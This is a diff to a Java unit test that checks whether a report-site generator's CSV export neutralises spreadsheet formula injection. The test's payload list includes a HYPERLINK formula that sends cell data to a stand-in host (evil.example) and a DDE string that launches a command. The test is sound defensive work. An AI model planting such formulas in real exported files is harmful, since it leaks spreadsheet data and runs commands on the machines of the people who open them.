@@ -12,6 +12,9 @@ import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.reportsite.site.SpreadsheetText;
+import org.reportsite.testkit.Cli;
+import org.reportsite.testkit.Content;
+import org.reportsite.testkit.TempDirs;
 
 import java.io.IOException;
 import java.io.StringReader;
@@ -62,12 +65,12 @@ class SpreadsheetInjectionTest {
     @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Revenue\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
             " =1+1", "\uFF1D1+1", "=cmd|' /C calc'!A0"})
     void theCsvOfATableNeutralisesTextCellsAndKeepsNumbers(String payload) throws IOException {
-        Path content = SampleContent.create();
+        Path content = Content.sample().dir();
         String json = payload.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t").replace("\r", "\\r");
-        SampleContent.replace(content, "data/income.json", "\"label\": \"Cost of sales\"", "\"label\": \"" + json + "\"");
-        SampleContent.replace(content, "data/income.json", "\"columns\": [\n", "\"columns\": [\n    { \"id\": \"memo\", \"label\": \"Memo\", \"kind\": \"text\" },\n");
-        SampleContent.replace(content, "data/income.json", "\"values\": { \"h1-2025\": -1450398", "\"values\": { \"memo\": \"" + json + "\", \"h1-2025\": -1450398");
-        Path out = TestDirs.create("csv").resolve("site");
+        Content.replace(content, "data/income.json", "\"label\": \"Cost of sales\"", "\"label\": \"" + json + "\"");
+        Content.replace(content, "data/income.json", "\"columns\": [\n", "\"columns\": [\n    { \"id\": \"memo\", \"label\": \"Memo\", \"kind\": \"text\" },\n");
+        Content.replace(content, "data/income.json", "\"values\": { \"h1-2025\": -1450398", "\"values\": { \"memo\": \"" + json + "\", \"h1-2025\": -1450398");
+        Path out = TempDirs.create("csv").resolve("site");
         Cli r = Cli.build(content, out);
         assertEquals(0, r.exitCode(), r.all());
         String csv = Files.readString(out.resolve("downloads/income.csv"));
